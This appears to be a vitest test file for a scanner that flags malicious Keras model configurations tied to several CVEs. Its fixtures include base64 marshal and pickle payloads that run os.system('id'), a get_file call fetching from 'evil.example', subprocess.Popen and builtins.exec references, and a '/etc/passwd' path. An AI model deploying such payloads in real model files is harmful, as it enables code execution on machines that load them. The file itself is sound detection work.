import { describe, expect, it } from 'vitest';
import { MAX_CODE_NAMES, decodeBase64, joinPath, marshalNames, parseKerasConfigText, walkKerasConfig } from '../../src/rules/keras-config.ts';
import { ruleEffect } from '../../src/rules/index.ts';

/**
 * base64(marshal.dumps(compile("__import__('os').system('id')", "x", "eval"))),
 * written by CPython 3.11: what a Keras 3 __lambda__ carries.
 */
const MARSHAL_OS_SYSTEM =
  'YwAAAAAAAAAAAAAAAAMAAAAAAAAA8z4AAACXAAIAZQBkAKYBAACrAQAAAAAAAAAAoAEAAAAAAAAAAAAAAAAAAAAAAAAAAGQBpgEAAKsBAAAAAAAAAABTACkC2gJvc9oCaWQpAtoKX19pbXBvcnRfX9oGc3lzdGVtqQDzAAAAANoBePoIPG1vZHVsZT5yCAAAAAEAAABzIwAAAPADAQEB2AAKgAqINNEAENQAENcAF9IAF5gE0QAd1AAd0AAdcgYAAAA=';
/** The same, as Keras 2's func_dump writes it: codecs base64 with a newline every 76 characters. */
const MARSHAL_WITH_NEWLINES = MARSHAL_OS_SYSTEM.replace(/(.{76})/g, '$1\n');
/** base64(pickle.dumps(P(), protocol=2)) where P reduces to os.system('id'). */
const PICKLE_OS_SYSTEM = 'gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==';

const dense = (name: string) => ({
  module: 'keras.layers',
  class_name: 'Dense',
  config: { name, units: 2, kernel_initializer: { module: 'keras.initializers', class_name: 'GlorotUniform', config: { seed: null }, registered_name: null } },
  registered_name: null,
});

/** A Keras 3 Sequential holding `layers`. */
const sequential3 = (...layers: unknown[]) => ({ module: 'keras', class_name: 'Sequential', config: { name: 'sequential', layers }, registered_name: null });
/** A Keras 2 Sequential holding `layers`. */
const sequential2 = (...layers: unknown[]) => ({ class_name: 'Sequential', config: { name: 'sequential', layers } });
/** A Keras 3 Lambda whose function is `function`, with `argumentsConfig`. */
const lambda3 = (fn: unknown, argumentsConfig: Record<string, unknown> = {}) => ({
  module: 'keras.layers',
  class_name: 'Lambda',
  config: { name: 'lambda', function: fn, arguments: argumentsConfig },
  registered_name: null,
});
const functionRef = (module: string, name: string) => ({ module, class_name: 'function', config: name, registered_name: 'function' });

interface Row {
  name: string;
  config: unknown;
  /** Every finding's rule and the start of its evidence (the JSON path). */
  expected: [rule: string, evidence: string][];
}

const ROWS: Row[] = [
  { name: 'a plain Keras 3 Sequential of Dense layers', config: sequential3(dense('a'), dense('b')), expected: [] },
  {
    name: 'a plain Keras 2 config with compile settings',
    config: { ...sequential2({ class_name: 'Dense', config: { name: 'd', activation: 'relu' } }), training_config: { loss: 'mse', optimizer_config: { class_name: 'Adam', config: {} } } },
    expected: [],
  },
  {
    name: 'CVE-2024-3660: Keras 2 Lambda with marshalled bytecode (func_dump, with newlines)',
    config: sequential2({ class_name: 'Lambda', config: { name: 'l', function: [MARSHAL_WITH_NEWLINES, null, null], function_type: 'lambda', module: '__main__' } }),
    expected: [['keras.lambda.bytecode', 'config.layers[0].config.function[0]: 194 bytes of code; names "os", "id", "__import__", "system"']],
  },
  {
    name: 'CVE-2024-3660: Keras 3 __lambda__ function',
    config: sequential3(lambda3({ class_name: '__lambda__', config: { code: MARSHAL_OS_SYSTEM, defaults: null, closure: null } })),
    expected: [['keras.lambda.bytecode', 'config.layers[0].config.function.config.code: 194 bytes']],
  },
  {
    name: 'a __lambda__ outside any Lambda layer (an activation) is bytecode too',
    config: sequential3({ ...dense('d'), config: { name: 'd', activation: { class_name: '__lambda__', config: { code: MARSHAL_OS_SYSTEM } } } }),
    expected: [['keras.lambda.bytecode', 'config.layers[0].config.activation.config.code']],
  },
  {
    name: 'Keras 2 Lambda output_shape given as a lambda',
    config: sequential2({ class_name: 'Lambda', config: { function: 'relu', function_type: 'function', output_shape: [MARSHAL_OS_SYSTEM, null, null], output_shape_type: 'lambda' } }),
    expected: [
      ['keras.lambda.function-reference', 'config.layers[0].config.function: "relu"'],
      ['keras.lambda.bytecode', 'config.layers[0].config.output_shape[0]'],
    ],
  },
  {
    name: 'CVE-2025-1550: an object from subprocess (module outside Keras, a command runner)',
    config: sequential3({ module: 'subprocess', class_name: 'Popen', config: { args: ['id'] }, registered_name: null }),
    expected: [['keras.object.dangerous-module', 'config.layers[0]: module "subprocess", name "Popen"']],
  },
  {
    name: 'CVE-2025-1550: a function reference to builtins.exec',
    config: sequential3(lambda3(functionRef('builtins', 'exec'))),
    expected: [
      ['keras.lambda.function-reference', 'config.layers[0].config.function: "builtins.exec"'],
      ['keras.object.dangerous-module', 'config.layers[0].config.function: module "builtins", name "exec"'],
    ],
  },
  {
    name: 'an unvetted custom layer from a third-party module',
    config: sequential3({ module: 'acme.layers', class_name: 'Fancy', config: {}, registered_name: 'Acme>Fancy' }),
    expected: [['keras.object.unknown-module', 'config.layers[0]: module "acme.layers", name "Fancy"']],
  },
  {
    name: 'a registered custom object without a module (tf.keras 2.13)',
    config: sequential2({ class_name: 'Fancy', config: {}, registered_name: 'Acme>Fancy' }),
    expected: [['keras.object.unknown-module', 'config.layers[0]: registered_name "Acme>Fancy"']],
  },
  {
    name: 'keras_hub and tf.keras modules are Keras namespaces; keras_hub>… registrations too',
    config: sequential3(
      { module: 'keras_hub.src.models.bert.bert_backbone', class_name: 'BertBackbone', config: {}, registered_name: 'keras_hub>BertBackbone' },
      { module: 'tensorflow.keras.layers', class_name: 'Dense', config: {}, registered_name: null },
      { module: 'keras.src.models.functional', class_name: 'Functional', config: { layers: [] }, registered_name: 'Functional' },
    ),
    expected: [],
  },
  {
    name: 'CVE-2025-8747: a Lambda calling keras.utils.get_file on a URL',
    config: sequential3(lambda3(functionRef('keras.utils', 'get_file'), { origin: 'https://evil.example/payload.tar.gz', extract: true })),
    expected: [
      ['keras.lambda.function-reference', 'config.layers[0].config.function: "keras.utils.get_file"'],
      ['keras.function.dangerous', 'config.layers[0].config.function: "keras.utils.get_file"'],
      ['keras.url-reference', 'config.layers[0].config.arguments.origin: "https://evil.example/payload.tar.gz"'],
    ],
  },
  {
    name: 'CVE-2025-9906: enable_unsafe_deserialization reached as a function',
    config: sequential3(lambda3(functionRef('keras.config', 'enable_unsafe_deserialization')), dense('d')),
    expected: [
      ['keras.lambda.function-reference', 'config.layers[0].config.function'],
      ['keras.safe-mode.disabled', 'config.layers[0].config.function: "keras.config.enable_unsafe_deserialization"'],
    ],
  },
  {
    name: 'CVE-2025-9906 chain: load_model of another file with safe_mode false',
    config: sequential3(lambda3(functionRef('keras.models', 'load_model'), { safe_mode: false })),
    expected: [
      ['keras.lambda.function-reference', 'config.layers[0].config.function'],
      ['keras.function.dangerous', 'config.layers[0].config.function: "keras.models.load_model"'],
      ['keras.safe-mode.disabled', 'config.layers[0].config.arguments.safe_mode: safe_mode: false'],
    ],
  },
  {
    name: 'CVE-2025-9906 chain: set_global_attribute reached as a class',
    config: sequential3({ module: 'keras.src.backend.common.global_state', class_name: 'set_global_attribute', config: {} }),
    expected: [['keras.function.dangerous', 'config.layers[0]: "keras.src.backend.common.global_state.set_global_attribute"']],
  },
  {
    name: 'enable_unsafe_deserialization mentioned in a plain string',
    config: sequential3({ ...dense('d'), config: { name: 'keras.config.enable_unsafe_deserialization()' } }),
    expected: [['keras.safe-mode.disabled', 'config.layers[0].config.name']],
  },
  {
    name: 'CVE-2025-49655: TorchModuleWrapper with pickled torch bytes',
    config: sequential3({ module: 'keras.layers', class_name: 'TorchModuleWrapper', config: { name: 't', module: PICKLE_OS_SYSTEM }, registered_name: null }),
    expected: [['keras.torch-module-wrapper', 'config.layers[0].config.module: 34 bytes, a pickle']],
  },
  {
    name: 'TorchModuleWrapper with the module bytes in a __bytes__ wrapper',
    config: sequential3({ module: 'keras.layers', class_name: 'TorchModuleWrapper', config: { module: { class_name: '__bytes__', config: { value: PICKLE_OS_SYSTEM } } } }),
    expected: [['keras.torch-module-wrapper', 'config.layers[0].config.module.config.value: 34 bytes']],
  },
  {
    name: 'StringLookup with a vocabulary file path',
    config: sequential3({ module: 'keras.layers', class_name: 'StringLookup', config: { vocabulary: '/etc/passwd' } }),
    expected: [['keras.file-reference', 'config.layers[0].config.vocabulary: "/etc/passwd"']],
  },
  {
    name: 'TextVectorization with a vocabulary URL',
    config: sequential3({ module: 'keras.layers', class_name: 'TextVectorization', config: { vocabulary: 'https://evil.example/vocab.txt' } }),
    expected: [
      ['keras.file-reference', 'config.layers[0].config.vocabulary'],
      ['keras.url-reference', 'config.layers[0].config.vocabulary'],
    ],
  },
  {
    name: 'IntegerLookup with an inline vocabulary list is fine',
    config: sequential3({ module: 'keras.layers', class_name: 'IntegerLookup', config: { vocabulary: [1, 2, 3] } }),
    expected: [],
  },
  {
    name: 'TFSMLayer loading a SavedModel from a path that climbs out',
    config: sequential3({ module: 'keras.layers', class_name: 'TFSMLayer', config: { filepath: '../../other/saved_model' } }),
    expected: [['keras.file-reference', 'config.layers[0].config.filepath']],
  },
  {
    name: 'nested: a Lambda inside TimeDistributed inside a Functional model',
    config: {
      module: 'keras.src.models.functional',
      class_name: 'Functional',
      config: { layers: [{ module: 'keras.layers', class_name: 'TimeDistributed', config: { layer: lambda3({ class_name: '__lambda__', config: { code: MARSHAL_OS_SYSTEM } }) } }] },
    },
    expected: [['keras.lambda.bytecode', 'config.layers[0].config.layer.config.function.config.code']],
  },
  {
    name: 'nested: a custom loss in compile_config and a custom initializer deep in a Bidirectional',
    config: {
      ...sequential3({ module: 'keras.layers', class_name: 'Bidirectional', config: { layer: { module: 'keras.layers', class_name: 'LSTM', config: { kernel_initializer: { module: 'evil_init', class_name: 'Init', config: {} } } } } }),
      compile_config: { loss: { module: 'my_losses', class_name: 'function', config: 'focal', registered_name: 'function' } },
    },
    expected: [
      ['keras.object.unknown-module', 'config.layers[0].config.layer.config.kernel_initializer: module "evil_init"'],
      ['keras.object.unknown-module', 'compile_config.loss: module "my_losses", name "focal"'],
    ],
  },
  {
    name: 'odd keys are quoted in paths, and a __proto__ key is just a key',
    config: JSON.parse('{"class_name": "Sequential", "config": {"weird key": {"__proto__": {"module": "os", "class_name": "system", "config": {}}}}}'),
    expected: [['keras.object.dangerous-module', 'config["weird key"].__proto__: module "os", name "system"']],
  },
];

describe('walkKerasConfig: each row a config and the findings it must give', () => {
  it.each(ROWS)('$name', ({ config, expected }) => {
    const walk = walkKerasConfig(config, { location: { entry: 'config.json', offset: 100 } });
    expect(walk.findings.map((finding) => finding.rule)).toEqual(expected.map(([rule]) => rule));
    walk.findings.forEach((finding, index) => {
      expect(finding.evidence?.startsWith(expected[index][1]), `${finding.evidence} should start with ${expected[index][1]}`).toBe(true);
      expect(finding.location).toEqual({ entry: 'config.json', offset: 100 });
    });
  });

  it('verdict effects: bytecode, dangerous modules, unlocking and torch payloads are dangerous; the rest suspicious', () => {
    expect(['keras.lambda.bytecode', 'keras.object.dangerous-module', 'keras.function.dangerous', 'keras.safe-mode.disabled', 'keras.torch-module-wrapper'].map(ruleEffect)).toEqual(Array(5).fill('dangerous'));
    expect(['keras.object.unknown-module', 'keras.lambda.function-reference', 'keras.url-reference', 'keras.file-reference'].map(ruleEffect)).toEqual(Array(4).fill('suspicious'));
  });

  it('the Lambda finding says whether safe_mode protects the format', () => {
    const config = sequential2({ class_name: 'Lambda', config: { function: [MARSHAL_OS_SYSTEM, null, null], function_type: 'lambda' } });
    expect(walkKerasConfig(config, { container: 'h5' }).findings[0].detail).toContain('CVE-2025-9905');
    expect(walkKerasConfig(config, { container: 'keras' }).findings[0].detail).toContain('safe_mode=True');
  });

  it('the TorchModuleWrapper bytes are handed back for scanning', () => {
    const walk = walkKerasConfig(sequential3({ module: 'keras.layers', class_name: 'TorchModuleWrapper', config: { module: PICKLE_OS_SYSTEM } }));
    expect(walk.payloads).toHaveLength(1);
    expect(walk.payloads[0].path).toBe('config.layers[0].config.module');
    expect([...walk.payloads[0].bytes.subarray(0, 2)]).toEqual([0x80, 0x02]);
  });

  it('undecodable bytecode and torch bytes are still reported', () => {
    const walk = walkKerasConfig(sequential3(lambda3({ class_name: '__lambda__', config: { code: '!!not base64!!' } }), { module: 'keras.layers', class_name: 'TorchModuleWrapper', config: { module: 42 } }));
    expect(walk.findings.map((finding) => finding.rule)).toEqual(['keras.lambda.bytecode', 'keras.torch-module-wrapper']);
    expect(walk.payloads).toEqual([]);
  });

  it('summarises the model: class, layer count, classes, custom objects, lambdas', () => {
    const walk = walkKerasConfig(sequential3(dense('a'), lambda3(functionRef('acme', 'f')), { module: 'acme.layers', class_name: 'X', config: {} }));
    expect(walk.summary).toMatchObject({
      modelClass: 'Sequential',
      layers: 3,
      classes: { Sequential: 1, Dense: 1, GlorotUniform: 1, Lambda: 1, function: 1, X: 1 },
      customObjects: ['acme.f', 'acme.layers.X'],
      lambdaLayers: 1,
    });
  });

  it('a config nested deeper than the limit stops with one finding', () => {
    let deep: unknown = { class_name: 'Lambda', config: { function: { class_name: '__lambda__', config: { code: MARSHAL_OS_SYSTEM } } } };
    for (let index = 0; index < 50; index += 1) deep = { layer: deep };
    const walk = walkKerasConfig(deep, { maxDepth: 20 });
    expect(walk.findings.map((finding) => finding.rule)).toEqual(['keras.config.limit']);
    expect(walkKerasConfig(deep).findings.map((finding) => finding.rule)).toEqual(['keras.lambda.bytecode']);
  });

  it('a config with more values than the limit stops with one finding', () => {
    const walk = walkKerasConfig({ values: Array.from({ length: 1000 }, (_, index) => index) }, { maxNodes: 100 });
    expect(walk.findings.map((finding) => finding.rule)).toEqual(['keras.config.limit']);
    expect(walk.summary.nodes).toBe(100);
  });

  it('a million-element config is walked in bounded time', () => {
    const started = Date.now();
    const walk = walkKerasConfig({ layers: Array.from({ length: 200_000 }, () => ({ class_name: 'Dense', config: { units: 1 } })) });
    expect(walk.summary.layers).toBe(200_000);
    expect(Date.now() - started).toBeLessThan(10_000);
  });

  it('findings of one rule are capped, with a count of the rest', () => {
    const walk = walkKerasConfig(sequential3(...Array.from({ length: 150 }, () => ({ module: 'acme', class_name: 'X', config: {} }))));
    expect(walk.findings.filter((finding) => finding.rule === 'keras.object.unknown-module')).toHaveLength(101);
    expect(walk.findings.at(-1)?.detail).toContain('50 more findings');
  });
});

describe('parseKerasConfigText', () => {
  it.each([
    ['not JSON', '{"class_name": ', 'not valid JSON'],
    ['an array', '[1, 2]', 'an array'],
    ['null', 'null', 'null'],
    ['a string', '"Sequential"', 'string'],
  ])('%s is an invalid config', (_, text, detail) => {
    const parsed = parseKerasConfigText(text, { offset: 5 }, 'config.json');
    expect('finding' in parsed && parsed.finding.rule).toBe('keras.config.invalid');
    expect('finding' in parsed && parsed.finding.detail).toContain(detail);
  });

  it('an object parses', () => {
    expect(parseKerasConfigText('{"class_name": "Sequential"}', {}, 'x')).toEqual({ config: { class_name: 'Sequential' } });
  });
});

describe('helpers', () => {
  it.each([
    ['', []],
    ['b3M=', [0x6f, 0x73]],
    ['b3M', [0x6f, 0x73]],
    ['b3\nM=', [0x6f, 0x73]],
    ['-_8=', [0xfb, 0xff]],
  ])('decodeBase64(%j)', (text, bytes) => {
    expect([...(decodeBase64(text, 100) ?? [])]).toEqual(bytes);
  });

  it('decodeBase64 refuses bad characters, data after padding and text over the limit', () => {
    expect(decodeBase64('b3M*', 100)).toBeNull();
    expect(decodeBase64('b3M=b3M=', 100)).toBeNull();
    expect(decodeBase64('b3M=', 3)).toBeNull();
  });

  it('marshalNames reads marshal text objects, and printable runs when there are none', () => {
    expect(marshalNames(Uint8Array.of(0xe3, 0xda, 2, 0x6f, 0x73, 0x7a, 6, ...new TextEncoder().encode('system')))).toEqual(['os', 'system']);
    expect(marshalNames(Uint8Array.of(0x61, 4, 0, 0, 0, ...new TextEncoder().encode('exec')))).toEqual(['exec']);
    expect(marshalNames(new TextEncoder().encode('\x01\x02popen\x00ab\x00eval'))).toEqual(['popen', 'eval']);
    const many = new Uint8Array(200 * 4);
    for (let index = 0; index < 200; index += 1) many.set([0xda, 2, 97 + (index % 26), 97 + Math.floor(index / 26)], index * 4);
    expect(marshalNames(many)).toHaveLength(MAX_CODE_NAMES);
  });

  it('joinPath', () => {
    expect(joinPath('', 'config')).toBe('config');
    expect(joinPath('config', 'layers')).toBe('config.layers');
    expect(joinPath('config', 'a b')).toBe('config["a b"]');
  });
});
